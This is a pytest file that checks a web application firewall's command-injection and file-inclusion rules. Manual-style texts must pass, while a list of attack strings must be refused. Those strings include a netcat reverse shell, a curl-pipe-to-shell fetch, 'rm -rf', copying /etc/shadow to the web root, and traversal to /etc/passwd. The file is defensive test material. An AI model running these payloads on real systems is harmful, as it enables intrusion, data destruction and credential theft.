"""WAF, manuals and documents (issue 11's twelfth round: a held-out corpus of
--help texts, man pages, markdown notes and code reviews, written by a writer
who did not read the rules) through the real edge (shipped config, bans off).
Each look-alike is a grammar a reader and a shell or a file system read
differently from the attack it resembles; the attack in the same syntax is
still refused by the rule that read the look-alike before.

- a line that starts with a shell prompt ("$ tool -n 10 | sort -k2 | head")
  or a crontab's schedule ("*/10 * * * * cd /opt/app && ./run") is a
  command line written for a reader, as one that starts with a known
  command word is, whatever its program is called (rce-command-line, a
  warning, not rce-command); five numbers are no schedule;
- find's "-exec" on a transcript's line among other lines (a --help
  text's examples) runs nothing: in a shell the line's command is "$", as
  one argument list the other lines' words stop find first
  (rce-option-command, rce-shell-syntax);
- a log under /var/log written by a line of its own ("$ tool 2>>/var/log/
  tool.err" in a --help text, a crontab line after the man page's title)
  is what a manual's example appends to: the lines of a document are not a
  chain, only a separator on the writing line is (lfi-system-path);
- a relative link up to three steps to a page, a picture, a stylesheet, a
  font or a project's LICENSE, in text or a markdown link
  ("[Licence terms](../../LICENSE.md)", "`../../docs/setup.md`"), and "../" as a
  word lead nowhere secret (lfi-traversal); a step to code (a server's,
  maybe: "../../lib/format.ts"), a settings file, the OS's directories,
  or four steps, still is.
"""
import pytest

from wafkit import (WafEdge, assert_no_lua_errors, assert_text_passes,
                    assert_text_refused_by, start_class_edges, waf_config)

CONF = waf_config()
CLASSES = ("rce", "lfi")

LOOKALIKES = [
    "usage: ledgerctl [OPTIONS] FILE\n\nexamples:\n"
    "  $ ledgerctl -n 5 balances.csv | sort -k3 | head\n"
    "  $ TZ=UTC ledgerctl --json | less -R",
    "Examples:\n  $ mapctl get tiles/42 | jq .zoom\n  $ mapctl ls | wc -l",
    "examples:\n  $ notely --config /etc/notely/site.toml 2>>/var/log/notely.err",
    "CRONTAB(5)\n\n  # m h dom mon dow command\n"
    "  */15 * * * *  /usr/local/bin/backup.sh >> /var/log/backup.log 2>&1",
    "Run it nightly:\n0 3 * * * /opt/app/bin/prune >> /var/log/prune.log 2>&1",
    "[Licence terms](../../LICENSE.md)",
    "![diagram](../../docs/img/flow.png)",
    "See ../setup/install.md#requirements first.",
    "LGTM. Could we point at `../../docs/setup.md` from the index instead? "
    "Two levels of ../ are hard to follow.",
    "what does ../ mean in a path",
    "- [Install](../install.md)\n- [API](../../docs/api/README.md)\n"
    "- ![logo](../../assets/logo.svg)",
    "usage: thumbs [OPTIONS]\n\nexamples:\n"
    "  $ find . -name '*.jpg' -exec thumbs --size 200 {} +",
    "*/5 * * * * cd /srv/shop && ./bin/reindex --quiet",
    "@daily cd /srv/app && ./bin/prune --days 30",
]

# (value, the rule that must report it)
ATTACKS = [
    ("ledgerctl -n 5 balances.csv | sort -k3 | head", "rce-command"),
    ("x | nc 10.0.0.1 4444 -e sh", "rce-command"),
    ("$ x;id;", "rce-command"),
    ("1 2 3 4 5 x; id", "rce-command"),
    ("* * * * * x; curl http://10.0.0.1/s | sh", "rce-shell-syntax"),
    ("find . -name '*.jpg' -exec thumbs --size 200 {} +", "rce-shell-syntax"),
    ("x\nfind . -exec rm -rf /srv {} +", "rce-shell-syntax"),
    ("examples:\n  $ find . -exec sh -c id {} +", "rce-shell-syntax"),
    ("x; echo pwned >> /var/log/auth.log", "lfi-system-path"),
    ("x >> /var/log/app.log; id", "lfi-system-path"),
    ("note\ncat /etc/shadow > /var/www/html/s.txt", "lfi-system-path"),
    ("../../../../LICENSE", "lfi-traversal"),
    ("[x](../../../../etc/passwd)", "lfi-traversal"),
    ("see `../../app/settings.py`", "lfi-traversal"),
    ("about `../../lib/format.ts`: ok", "lfi-traversal"),
    ("../../x.png ../../../etc/passwd", "lfi-traversal"),
    ("../../etc/passwd.png", "lfi-traversal"),
    ("![a](../../../var/www/.env.png)", "lfi-traversal"),
    ("..\\..\\web.config", "lfi-traversal"),
]


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-manuals"), CONF).start()
    yield e
    e.stop()


@pytest.fixture(scope="module")
def class_edges(tmp_path_factory):
    edges = start_class_edges(tmp_path_factory, "waf-manuals", CLASSES)
    yield edges
    for e in edges.values():
        e.stop()


@pytest.fixture(autouse=True)
def no_lua_errors(edge, class_edges):
    yield
    assert_no_lua_errors(edge, *class_edges.values())


@pytest.mark.parametrize("how", ["note", "query"])
@pytest.mark.parametrize("value", LOOKALIKES, ids=range(len(LOOKALIKES)))
def test_manuals_and_documents_pass(edge, value, how):
    assert_text_passes(edge, value, how)


@pytest.mark.parametrize("how", ["note", "query"])
@pytest.mark.parametrize("value,rule", ATTACKS, ids=range(len(ATTACKS)))
def test_the_same_syntax_as_an_attack_is_refused(edge, class_edges, value, rule, how):
    assert_text_refused_by(edge, class_edges[rule.split("-")[0]], value, rule, how)
